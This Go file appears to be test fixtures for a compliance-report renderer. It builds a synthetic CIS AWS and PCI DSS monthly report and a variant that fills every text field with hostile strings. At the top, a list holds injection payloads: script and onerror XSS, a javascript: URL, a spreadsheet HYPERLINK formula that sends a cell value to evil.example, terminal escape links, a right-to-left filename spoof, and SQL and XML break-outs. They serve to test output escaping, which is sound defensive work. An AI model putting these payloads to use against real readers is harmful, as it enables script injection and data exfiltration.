package render

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"github.com/trailql/trailql/report"
	"github.com/trailql/trailql/report/pack"
)

// hostile texts are what somebody may write into a user agent, a name or a key
// to harm those who read a report.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(document.domain)`,
	`=HYPERLINK("http://evil.example/?x="&A1,"invoice")`,
	"\u202egnp.exe\u202c",
	"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
	"| [a](http://evil.example) `code` @channel <!-- ",
	"first line\r\n| PASS | second line",
	"]]></failure><testcase name='ok'/>\x00\x0b\uffff",
	"</style></svg><svg onload=alert(1)>",
	"{{.Title}} ${x} `;DROP TABLE logs;--",
	"a,b\"c;d\te",
	"زبون\u200f\u2066عربي",
	strings.Repeat("A", 5000),
}

// example is a report as an organisation of three accounts would get it for a
// month. It is built, not taken from anywhere, and always the same.
func example() *report.Report {
	e := exampler{rng: rand.New(rand.NewPCG(5, 2004))}
	zone, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		zone = time.UTC
	}
	from := time.Date(2026, 8, 1, 0, 0, 0, 0, zone)
	to := time.Date(2026, 9, 1, 0, 0, 0, 0, zone)
	e.from, e.to, e.zone = from, to, zone
	r := &report.Report{
		Run: report.Header{ID: "01K3ZQ8Y5W9T4R6M2N7B1C8D0F", Started: time.Date(2026, 9, 1, 4, 0, 12, 0, time.UTC), Ended: time.Date(2026, 9, 1, 4, 0, 31, 0, time.UTC),
			Operator: "compliance@reports-01", ProgramVersion: "0.5.0", Schedule: "cis-monthly",
			PreviousReport: strings.Repeat("5e", 32), CommandLine: []string{"trailql", "report", "run", "--due"}},
		Title:    "CIS AWS Foundations Benchmark and PCI DSS, August 2026",
		Period:   report.Period{Name: "last-month", From: from.UTC(), To: to.UTC(), Zone: "Europe/Berlin", Lateness: time.Hour},
		Scope:    report.Scope{Declared: map[string][]string{"cde_buckets": {"card-data-prod", "card-data-backup"}, "admins": {"arn:aws:iam::*:role/Admin*"}}, File: "scope.yaml", SHA256: digest("scope")},
		Snapshot: report.Snapshot{Warehouse: "/srv/trailql", Version: 412, ID: 7_245_118_034_771_992_113, Committed: time.Date(2026, 9, 1, 3, 58, 2, 0, time.UTC), Records: 12_408_551},
		Notes:    []string{"The period is closed: events may be an hour late, and it ended before that."},
		Statements: []report.Statement{
			{Name: "rows", SQL: "SELECT eventtime, eventname FROM logs WHERE eventtime >= ? AND eventtime < ?", Params: []string{`"2026-07-31T22:00:00Z"`, `"2026-08-31T22:00:00Z"`}}},
		Exceptions: []report.ExceptionUse{
			{ID: "EX-2026-014", Reason: "Terraform pipeline changes security groups through reviewed merge requests", Ticket: "SEC-2231", ApprovedBy: "m.okafor", Expires: time.Date(2026, 12, 31, 22, 59, 59, 0, time.UTC), Suppressed: 0},
			{ID: "EX-2026-009", Reason: "Break-glass test of the root account", Ticket: "SEC-2107", ApprovedBy: "j.lindqvist", Expires: time.Date(2026, 8, 10, 21, 59, 59, 0, time.UTC), Problem: "expired on 2026-08-10: its findings count again"},
			{ID: "EX-2026-021", Reason: "Old CI role", Ticket: "SEC-2290", ApprovedBy: "m.okafor", Expires: time.Date(2026, 10, 31, 22, 59, 59, 0, time.UTC), Problem: "unused: nothing matched it in this period"},
		},
		Baseline: &report.Baseline{RunID: "01K1ABCDEF", Period: report.Period{Name: "2026-07", From: from.AddDate(0, -1, 0).UTC(), To: from.UTC(), Zone: "Europe/Berlin", Lateness: time.Hour},
			Resolved: []report.BaselineFinding{{Pack: "cis-aws-foundations", Control: "4.5", ID: "f-0badc0de0badc0de", Rule: "CIS-5", Account: "111122223333", Region: "eu-central-1",
				Actor: "arn:aws:iam::111122223333:user/old-admin", Resource: "org-trail", Event: "UpdateTrail", Severity: pack.High, Last: from.AddDate(0, 0, -9).UTC()}}},
	}
	r.Coverage = e.coverage()
	r.Packs = []report.Pack{
		{ID: "cis-aws-foundations", Title: "CIS AWS Foundations Benchmark, monitoring", Version: "v5.0", Hash: digest("cis"),
			Notes: []string{"The benchmark asks for a metric filter and an alarm. CloudTrail cannot show those: this pack shows that the events were monitored."},
			Controls: []report.Control{
				e.control("4.1", "Unauthorised API calls are monitored", pack.Evidence, pack.Low, report.Pass, 143, 0, "CIS-1", "AccessDenied"),
				e.control("4.2", "Console sign-in without MFA is monitored", pack.Exception, pack.High, report.Fail, 3, 0, "CIS-2", "ConsoleLogin"),
				e.control("4.3", "Use of the root account is monitored", pack.Exception, pack.High, report.Fail, 4, 1, "CIS-3", "ConsoleLogin"),
				e.control("4.4", "Changes of IAM policies are monitored", pack.Evidence, pack.Medium, report.Pass, 61, 0, "CIS-4", "AttachRolePolicy"),
				e.control("4.5", "Changes of CloudTrail's configuration are monitored", pack.Exception, pack.Critical, report.Fail, 2, 0, "CIS-5", "StopLogging"),
				e.control("4.6", "Failed console sign-ins are monitored", pack.Evidence, pack.Low, report.Pass, 37, 0, "CIS-6", "ConsoleLogin"),
				e.control("4.7", "Disabling or deletion of customer keys is monitored", pack.Exception, pack.High, report.NotAssessed, 0, 0, "CIS-7", "DisableKey"),
				e.control("4.8", "Changes of S3 bucket policies are monitored", pack.Evidence, pack.Medium, report.Pass, 12, 0, "CIS-8", "PutBucketPolicy"),
				e.control("4.9", "Changes of AWS Config are monitored", pack.Exception, pack.Medium, report.Pass, 0, 0, "CIS-9", "StopConfigurationRecorder"),
				e.control("4.10", "Changes of security groups are monitored", pack.Evidence, pack.Low, report.Suppressed, 214, 214, "CIS-10-V5", "AuthorizeSecurityGroupIngress"),
				e.control("4.11", "Changes of network ACLs are monitored", pack.Evidence, pack.Low, report.NoActivity, 0, 0, "CIS-11", "CreateNetworkAcl"),
				e.control("4.16", "Security Hub is enabled", pack.Coverage, pack.Medium, report.NotApplicable, 0, 0, "CIS-16", "EnableSecurityHub"),
			}},
		{ID: "pci-dss-4", Title: "PCI DSS, requirement 10", Version: "4.0.1", Hash: digest("pci"), Controls: []report.Control{
			e.control("10.2.1", "Logs are on and active for all components", pack.Coverage, pack.High, report.NotAssessed, 0, 0, "GAP", ""),
			e.control("10.2.1.3", "Access to audit logs", pack.Exception, pack.Low, report.Review, 18, 0, "LOG-READ", "LookupEvents"),
			e.control("10.2.1.4", "Invalid attempts of logical access", pack.Evidence, pack.Medium, report.Pass, 143, 0, "CIS-1", "AccessDenied"),
			e.control("10.3.4", "Changes of logs are detected", pack.Coverage, pack.Critical, report.Error, 0, 0, "DIGEST", ""),
		}},
	}
	e.details(r)
	return r
}

type exampler struct {
	rng      *rand.Rand
	from, to time.Time
	zone     *time.Location
}

var exampleAccounts = []string{"111122223333", "222233334444", "333344445555"}

var exampleRegions = []string{"eu-central-1", "eu-west-1", "us-east-1", "us-west-2"}

func (e *exampler) coverage() report.Coverage {
	c := report.Coverage{First: e.from.Add(3 * time.Second).UTC(), Last: e.to.Add(-time.Second).UTC(), Digests: "744 of 744 hours have a valid digest in 2 accounts; not checked in 333344445555"}
	for _, account := range exampleAccounts {
		for r, region := range exampleRegions {
			for day := e.from; day.Before(e.to); day = day.AddDate(0, 0, 1) {
				n := int64(4000 / (r + 1) * (80 + e.rng.IntN(40)) / 100)
				if w := day.Weekday(); w == time.Saturday || w == time.Sunday {
					n /= 5
				}
				hours := 24
				if account == "333344445555" && region == "us-west-2" && day.Day() >= 12 && day.Day() <= 14 {
					n, hours = 0, 0
				}
				if account == "222233334444" && region == "us-east-1" && day.Day() == 21 {
					n, hours = n/2, 13
				}
				objects := n / 40
				c.Cells = append(c.Cells, report.CoverageCell{Account: account, Region: region, Day: day.Format(time.DateOnly), Events: n, Hours: hours, Objects: objects})
			}
		}
	}
	day := func(d int) time.Time { return time.Date(2026, 8, d, 0, 0, 0, 0, e.zone).UTC() }
	c.Gaps = []report.Gap{
		{Account: "222233334444", Region: "us-east-1", From: day(21), To: day(21).Add(11 * time.Hour), Hours: 11, Reason: "no event for 11 hours, where 96 of 100 such hours have some"},
		{Account: "333344445555", Region: "us-west-2", From: day(12), To: day(15), Hours: 72, Reason: "no event and no log file"},
	}
	c.Notes = []string{"us-west-2 of 111122223333 has no events at night on weekends; those hours are no gaps."}
	return c
}

var exampleActors = []string{
	"arn:aws:iam::111122223333:role/terraform-pipeline", "arn:aws:iam::111122223333:user/j.lindqvist", "arn:aws:iam::222233334444:role/Admin",
	"arn:aws:iam::333344445555:user/batch-export", "arn:aws:iam::222233334444:user/a.moreau", "arn:aws:iam::111122223333:root",
}

func (e *exampler) control(id, title string, kind pack.Kind, severity pack.Severity, state report.State, count, suppressed int, rule, event string) report.Control {
	c := report.Control{ID: id, Title: title, Kind: kind, Severity: severity, State: state, Level: "L1", Count: int64(count), Suppressed: int64(suppressed), Events: int64(count), Open: map[pack.Severity]int64{},
		Related: map[string][]string{"nist-800-53": {"AU-6", "SI-4"}, "iso-27001": {"A.8.15"}},
		Rules: []report.RuleUse{{ID: rule, Title: title, Description: "What the control asks for, as a condition on events.", Kind: kind, Attack: []string{"T1562.008", "T1685.002"},
			SQL: fmt.Sprintf("eventname IN ('%s')\n  AND useridentity.type <> 'AWSService'", event), Count: int64(count)}}}
	if event != "" {
		c.Pattern = fmt.Sprintf(`{ ($.eventName = %q) || ($.errorCode = "AccessDenied*") }`, event)
	}
	of, known := exampleRules[rule]
	if known {
		c.Pattern, c.Rules[0].SQL, c.Rules[0].Attack = of.pattern, of.sql, of.attack
	}
	times := make([]time.Time, count)
	for i := range times {
		times[i] = e.from.Add(time.Duration(e.rng.Int64N(int64(e.to.Sub(e.from)/time.Second))) * time.Second).UTC()
	}
	slices.SortFunc(times, time.Time.Compare)
	days, actors, accounts := map[string]int64{}, map[string]int64{}, map[string]int64{}
	for i, at := range times {
		f := e.finding(at, rule, event, severity)
		if known {
			of.set(&f)
		}
		if i < suppressed {
			f.SuppressedBy = "EX-2026-014"
		}
		c.Findings = append(c.Findings, f)
		if i >= suppressed {
			c.Open[severity]++
		}
		days[at.In(e.zone).Format(time.DateOnly)]++
		accounts[f.Values[1]]++
		actors[f.Values[3]]++
	}
	for _, day := range sortedKeys(days) {
		c.Days = append(c.Days, report.DayCount{Day: day, Count: days[day]})
	}
	if count > 0 {
		c.Groups = []report.Group{group("account_id", accounts), group("actor", actors)}
	}
	c.Difference = &report.Difference{New: int64(count / 3), Recurring: int64(count - count/3), Before: int64(count - count/3)}
	for i := range c.Findings {
		c.Findings[i].Status = "recurring"
		if i < count/3 {
			c.Findings[i].Status = "new"
		}
	}
	return c
}

// exampleRules are those of the controls that the pictures of docs show.
var exampleRules = map[string]exampleRule{
	"CIS-2": {"signin.amazonaws.com", "AWS console", "", []string{"T1078.004"},
		`{ ($.eventName = "ConsoleLogin") && ($.additionalEventData.MFAUsed != "Yes") }`,
		"eventname = 'ConsoleLogin'\n  AND ad(MFAUsed) <> 'Yes'\n  AND useridentity.type = 'IAMUser'\n  AND re(ConsoleLogin) = 'Success'"},
	"CIS-3": {"signin.amazonaws.com", "AWS console", "root", []string{"T1078.004"},
		`{ $.userIdentity.type = "Root" && $.userIdentity.invokedBy NOT EXISTS && $.eventType != "AwsServiceEvent" }`,
		"useridentity.type = 'Root'\n  AND useridentity.invokedby IS NULL\n  AND eventtype <> 'AwsServiceEvent'"},
	"CIS-5": {"cloudtrail.amazonaws.com", "arn:aws:cloudtrail:eu-central-1:111122223333:trail/org-trail", "", []string{"T1562.008", "T1685.002"},
		"{ ($.eventName = CreateTrail) || ($.eventName = UpdateTrail) || ($.eventName = DeleteTrail) || ($.eventName = StartLogging) || ($.eventName = StopLogging) }",
		"eventname IN ('CreateTrail', 'UpdateTrail', 'DeleteTrail', 'StartLogging', 'StopLogging')"},
}

type exampleRule struct {
	source, resource, actor string
	attack                  []string
	pattern, sql            string
}

func (of exampleRule) set(f *report.Finding) {
	f.Values[11], f.Values[13] = of.source, of.resource
	if of.actor != "" {
		f.Values[3], f.Values[4] = "arn:aws:iam::"+f.Values[1]+":"+of.actor, "Root"
	}
}

func group(column string, counts map[string]int64) report.Group {
	g := report.Group{Columns: []string{column}}
	for _, value := range sortedKeys(counts) {
		g.Rows = append(g.Rows, report.GroupRow{Values: []string{value}, Count: counts[value]})
	}
	slices.SortStableFunc(g.Rows, func(a, b report.GroupRow) int { return int(b.Count - a.Count) })
	return g
}

func (e *exampler) finding(at time.Time, rule, event string, severity pack.Severity) report.Finding {
	actor := exampleActors[e.rng.IntN(len(exampleActors))]
	account := strings.Split(actor, ":")[4]
	region := exampleRegions[e.rng.IntN(len(exampleRegions))]
	object := fmt.Sprintf("AWSLogs/o-a1b2c3/%s/CloudTrail/%s/%s/%s_CloudTrail_%s_%s.json.gz", account, region, at.Format("2006/01/02"), at.Format("20060102T1504Z"), region, digest(at.String())[:16])
	id := digest(at.String(), rule, fmt.Sprint(e.rng.Uint64()))
	kind := "AssumedRole"
	outcome, code := "success", ""
	if strings.HasSuffix(actor, ":root") {
		kind = "Root"
	} else if strings.Contains(actor, ":user/") {
		kind = "IAMUser"
	}
	if event == "AccessDenied" {
		outcome, code, event = "denied", "AccessDenied", []string{"GetObject", "ListSecrets", "DescribeInstances", "AssumeRole"}[e.rng.IntN(4)]
	}
	values := map[string]string{"event_time": timestamp(at), "account_id": account, "region": region, "actor": actor, "actor_type": kind, "access_key_id": "ASIA" + strings.ToUpper(id[:16]),
		"mfa_authenticated": "false", "source_ip": fmt.Sprintf("203.0.113.%d", e.rng.IntN(250)), "user_agent": "aws-cli/2.31.2 md/awscrt#0.27.6 ua/2.1 os/linux#6.8 lang/python#3.13",
		"event_source": "iam.amazonaws.com", "event_name": event, "resource": "arn:aws:iam::" + account + ":role/app-" + id[:4], "outcome": outcome, "error_code": code,
		"event_id": fmt.Sprintf("%s-%s-%s-%s-%s", id[:8], id[8:12], id[12:16], id[16:20], id[20:32]), "log_object": object, "log_index": fmt.Sprint(e.rng.IntN(200)), "log_sha256": digest(object)}
	f := report.Finding{ID: "f-" + digest(rule, account, region, actor)[:16], Rule: rule, Severity: severity, Time: at, Columns: map[string]string{"read_only": "false"}}
	for _, name := range pack.EvidenceColumns() {
		f.Values = append(f.Values, values[name])
	}
	return f
}

// details are what single controls show.
func (e *exampler) details(r *report.Report) {
	reasons := map[report.State]string{
		report.Fail: "%d events have no exception.", report.Review: "%d events are to be judged.", report.Pass: "%d events show that this class of event is logged.",
		report.NoActivity: "The archive covers the period and has no such event.%.0d", report.Suppressed: "All %d events have an exception.",
		report.NotAssessed:   "No such event, but the archive has 2 gaps in the period: 222233334444 us-east-1, 333344445555 us-west-2.%.0d",
		report.NotApplicable: "This version of the benchmark has no such control.%.0d", report.Error: "The digests could not be read: open digest/2026/08: permission denied.%.0d"}
	for p := range r.Packs {
		for i := range r.Packs[p].Controls {
			c := &r.Packs[p].Controls[i]
			c.Reason = fmt.Sprintf(reasons[c.State], c.Count-c.Suppressed)
			if c.State == report.Suppressed {
				c.Reason = fmt.Sprintf(reasons[c.State], c.Count)
				r.Exceptions[0].Suppressed = c.Suppressed
			}
			if c.State == report.Pass && c.Kind == pack.Exception {
				c.Reason = "No such event, and the archive covers the period where it could have been."
			}
			if c.State == report.Error {
				c.Rules[0].Error = "open digest/2026/08: permission denied"
			}
		}
	}
	cis := r.Packs[0].Controls
	cis[0].Note = "The benchmark's pattern takes nearly every event; this condition has the parentheses that were meant."
	cis[0].Sample = &report.Sample{Population: cis[0].Events, Seed: 7, Method: "random without replacement (PCG), events in order of their id", EventIDs: []string{cis[0].Findings[3].Values[16], cis[0].Findings[77].Values[16]}}
	r.Packs[1].Controls[2].Findings = slices.Clone(cis[0].Findings)
	// A burst: what several of the denied calls show together.
	burst := cis[0].Findings[:6]
	first, last := burst[0], burst[5]
	cis[0].Findings = append(slices.Clone(cis[0].Findings), report.Finding{ID: "f-b0b5b0b5b0b5b0b5", Rule: "CIS-1", Severity: pack.Medium, Time: first.Time, Last: last.Time, Reached: 6,
		Values: make([]string, len(first.Values)), Columns: map[string]string{}, Status: "new"})
	b := &cis[0].Findings[len(cis[0].Findings)-1]
	b.Values[1], b.Values[3] = first.Values[1], first.Values[3]
	for _, f := range burst {
		b.Events = append(b.Events, f.Values[16])
	}
	cis[0].Count++
	cis[0].Rules[0].Count++
	cis[0].Difference.New++
	cis[4].Difference.Resolved, cis[4].Difference.Before = 1, 3
	cis[0].Open[pack.Medium]++
	cis[2].Open[cis[2].Findings[1].Severity]--
	cis[2].Open[pack.Critical]++
	cis[2].Findings[1].Severity = pack.Critical
	cis[2].Severity = pack.Critical
	cis[2].Findings[1].Disposition = &report.Disposition{Finding: cis[2].Findings[1].ID, By: "a.moreau", Note: "billing change, agreed by phone", Ticket: "SEC-2301", At: r.Run.Started.Add(-24 * time.Hour)}
	cis[2].Rules = append(cis[2].Rules, report.RuleUse{ID: "ROOT-CRED", Title: "Credentials of root", Kind: pack.Exception, Attack: []string{}, SQL: "", NotAssessed: "the list of root addresses is not declared"})
	// One control lists only some of its findings.
	r.Packs[1].Controls[1].Count += 100_000
	r.Packs[1].Controls[1].Events += 100_000
	r.Packs[1].Controls[1].Unlisted = 100_000
	r.Packs[1].Controls[1].Open[r.Packs[1].Controls[1].Severity] += 100_000
}

// hostileExample has a hostile text in every place that can hold a text of a log,
// a pack or an exception. Every shift moves the texts by a place.
func hostileExample(shift int) *report.Report {
	r := example()
	n := shift
	next := func() string { n++; return hostile[n%len(hostile)] }
	r.Title = next()
	r.Notes = append(r.Notes, next())
	r.Scope.Declared[next()] = []string{next()}
	r.Statements = append(r.Statements, report.Statement{Name: next(), SQL: next(), Params: []string{next()}})
	r.Run.Operator = next()
	for i := range r.Exceptions {
		x := &r.Exceptions[i]
		x.ID, x.Reason, x.Ticket, x.ApprovedBy = next(), next(), next(), next()
	}
	r.Coverage.Notes = append(r.Coverage.Notes, next())
	r.Coverage.Digests = next()
	for i := range r.Coverage.Gaps {
		r.Coverage.Gaps[i].Reason = next()
	}
	r.Coverage.Gaps[0].Account = next()
	for i := range r.Coverage.Cells[:62] {
		r.Coverage.Cells[i].Account = hostile[i/31]
	}
	for p := range r.Packs {
		pk := &r.Packs[p]
		pk.Title, pk.Version = next(), next()
		for c := range pk.Controls {
			x := &pk.Controls[c]
			x.ID, x.Title, x.Reason, x.Level, x.Pattern, x.Note = x.ID+next(), next(), next(), next(), next(), next()
			x.Related[next()] = []string{next()}
			for i := range x.Rules {
				u := &x.Rules[i]
				u.Title, u.SQL, u.Description, u.Error, u.Result = next(), next(), next(), next(), next()
			}
			for g := range x.Groups {
				for row := range x.Groups[g].Rows {
					x.Groups[g].Rows[row].Values[0] = next()
				}
			}
			if x.Sample != nil {
				x.Sample.Method, x.Sample.EventIDs[0] = next(), next()
			}
			const enough = 20
			if more := len(x.Findings) - enough; more > 0 {
				x.Findings, x.Unlisted = x.Findings[:enough], x.Unlisted+int64(more)
			}
			for i := range x.Findings {
				f := &x.Findings[i]
				f.Values = slices.Clone(f.Values)
				for v := range f.Values {
					if v != 0 && f.Values[v] != "" && i%7 != 0 {
						f.Values[v] = next()
					}
				}
				f.Columns = map[string]string{next(): next(), "empty": ""}
				if f.Disposition != nil {
					f.Disposition.Note = next()
				}
			}
		}
	}
	return r
}

func digest(texts ...string) string {
	sum := sha256.Sum256([]byte(strings.Join(texts, "\x00")))
	return hex.EncodeToString(sum[:])
}
